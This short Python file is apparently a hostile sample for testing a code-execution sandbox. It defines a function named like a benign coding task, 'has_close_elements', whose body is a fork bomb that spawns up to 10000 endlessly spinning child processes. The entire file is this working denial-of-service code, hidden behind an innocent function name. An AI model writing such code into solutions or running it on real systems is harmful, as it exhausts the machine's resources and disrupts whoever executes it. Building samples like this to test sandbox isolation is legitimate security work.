"""A fork bomb (bounded by the test harness's own limits, should the sandbox fail)."""

import os


def has_close_elements(numbers, threshold):
    children = 0
    for _ in range(10000):
        try:
            if os.fork() == 0:
                while True:
                    pass
            children += 1
        except OSError:
            break
    if children:
        raise RuntimeError(f"forked {children}")
    return None
